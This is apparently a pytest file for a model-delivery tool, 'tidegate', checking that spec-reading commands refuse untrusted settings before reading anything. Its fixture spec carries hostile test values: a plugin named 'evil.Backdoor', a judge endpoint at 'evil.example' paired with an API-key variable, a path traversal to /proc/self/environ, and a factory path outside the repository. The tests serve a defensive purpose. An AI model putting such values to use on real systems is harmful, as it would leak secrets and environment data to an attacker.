"""Commands that act on a spec refuse what is not its author's to say, before they read anything that it names."""

from __future__ import annotations

from pathlib import Path

import pytest

from tidegate.app.wiring.specs import read_spec
from tidegate.cli import main
from tidegate.core.spec import SpecError

SPEC = """apiVersion: tidegate/v1
kind: Delivery
metadata: {name: m}
model: {name: m}
engine: {vllm: {version: 0.32.0, args: {middleware: evil.Backdoor}}}
gates: {latency: {}, errors: {}, judge: {endpoint: 'https://evil.example/v1', model: j, api_key_env: JUDGE_KEY}}
stages: [{canary: {}}]
regions: {waves: [[eu]]}
traffic: {requests_per_second: 2, prompts: ../../../../../../../../../proc/self/environ}
"""


@pytest.fixture
def spec(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("TIDEGATE_TRUST", "TIDEGATE_ROOT"):
        monkeypatch.delenv(name, raising=False)
    path = tmp_path / "delivery.yaml"
    path.write_text(SPEC)
    return path


@pytest.mark.parametrize(
    "command", [["deliver"], ["plan"], ["stage", "open", "--file"], ["workflow", "render"], ["doctor"]]
)
def test_every_problem_has_its_line_and_the_exit_code_of_a_wrong_spec(
    command: list[str], spec: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*command, str(spec)]) == 2
    told = capsys.readouterr().err
    assert f"{spec}:5: engine.vllm.args.middleware: found 'evil.Backdoor'" in told
    assert f"{spec}:6: gates.judge.api_key_env: found" in told
    assert f"{spec}:9: traffic.prompts: found" in told
    assert "JUDGE_KEY" not in told


def test_the_operators_file_next_to_the_spec_allows_by_name(spec: Path) -> None:
    spec.with_name("prompts.txt").write_text("hello\n")
    spec.write_text(SPEC.replace("../../../../../../../../../proc/self/environ", "prompts.txt"))
    spec.with_name("trust.yaml").write_text("spec: {variables: [JUDGE_KEY], plugins: {middleware: [evil.Backdoor]}}\n")
    assert read_spec(spec).gates.judge


def test_a_trust_file_that_came_with_a_kept_spec_is_none(
    spec: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    spec.with_name("trust.yaml").write_text("spec: {variables: [JUDGE_KEY], plugins: {middleware: [evil.Backdoor]}}\n")
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    with pytest.raises(SpecError, match=r"evil\.Backdoor"):
        read_spec(spec, kept_below=tmp_path)
    monkeypatch.setenv("TIDEGATE_TRUST", str(spec.with_name("trust.yaml")))
    with pytest.raises(SpecError) as caught:
        read_spec(spec, kept_below=tmp_path)
    assert [problem.path for problem in caught.value.problems] == ["traffic.prompts"]


MODULE = SPEC.replace("{vllm: {version: 0.32.0, args: {middleware: evil.Backdoor}}}", "{torch: {factory: 'FILE:f'}}")
MODULE = MODULE.replace(", judge: {endpoint: 'https://evil.example/v1', model: j, api_key_env: JUDGE_KEY}", "")
MODULE = MODULE.replace(", prompts: ../../../../../../../../../proc/self/environ", "")


@pytest.mark.parametrize("command", [["deliver"], ["plan"], ["doctor"], ["workflow", "render"]])
def test_a_torch_module_is_built_and_not_delivered(
    command: list[str], spec: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    spec.write_text(MODULE.replace("FILE", "models.py"))
    assert main([*command, str(spec)]) == 2
    assert "engine.torch is built and proven by `tidegate engine build`, and not served" in capsys.readouterr().err
    assert read_spec(spec, served=False).engine.torch


def test_a_factory_lies_below_the_repository_of_the_spec(spec: Path) -> None:
    spec.write_text(MODULE.replace("FILE", "../elsewhere.py"))
    with pytest.raises(SpecError, match=r"engine.torch.factory: found ../elsewhere.py, which is "):
        read_spec(spec, served=False)
